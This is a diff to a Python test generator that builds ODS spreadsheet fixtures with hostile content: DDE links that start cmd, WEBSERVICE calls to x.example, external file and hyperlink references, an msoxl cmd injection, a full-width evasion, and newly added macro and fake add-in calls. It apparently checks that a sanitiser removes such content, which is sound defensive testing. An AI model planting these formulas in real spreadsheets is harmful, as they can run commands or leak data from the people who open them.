@@ -70,7 +70,7 @@ def hostile():
         "DDE connections.", "the shown value stays"
     yield "dde-links", "ods", ods([[cell("値")]], "", f'<table:dde-links><table:dde-link><office:dde-source office:dde-application="cmd" office:dde-topic="{c("ddetopic")}" office:dde-item="x"/>'
                                   f'<table:table><table:table-row><table:table-cell office:value-type="string" office:string-value="{c("cached")}"/></table:table-row></table:table></table:dde-link></table:dde-links>'), "DDE links of a sheet.", "gone, told"
-    formulas = [f'of:=WEBSERVICE("http://x.example/{c("web")}")', f'of:=DDE("cmd";"/c {c("ddef")}";"x")', f"of:='file:///c:/{c('file')}.ods'#$Sheet1.A1", f'of:=HYPERLINK("file:///{c("hyper")}";"x")',
+    formulas = [f'of:=MYMACRO("{c("macrocall")}")', f'of:=COM.SUN.STAR.SHEET.ADDIN.EVIL.SUM("{c("addin")}")', f'of:=WEBSERVICE("http://x.example/{c("web")}")', f'of:=DDE("cmd";"/c {c("ddef")}";"x")', f"of:='file:///c:/{c('file')}.ods'#$Sheet1.A1", f'of:=HYPERLINK("file:///{c("hyper")}";"x")',
                 f'of:=COM.MICROSOFT.FILTERXML([.A1];"{c("xml")}")', f"msoxl:=cmd|'/c {c('bar')}'!A0", f'of:=HYPERLINK("http://x.example/" &amp; "{c("joined")}")'.replace("&amp;", "&"), f'of:=ＷＥＢＳＥＲＶＩＣＥ("{c("wide")}")']
     yield "formulas", "ods", ods([[cell(formula=f, number=n + 1)] for n, f in enumerate(formulas)]), "Formulas that load, start or reach other files.", "their shown values stay, told"
     yield "named-formula", "ods", ods([[cell(number=1)]], "", f'<table:named-expressions><table:named-expression table:name="n" table:base-cell-address="$集計.$A$1" table:expression="of:=WEBSERVICE(&quot;{c("named")}&quot;)"/>'
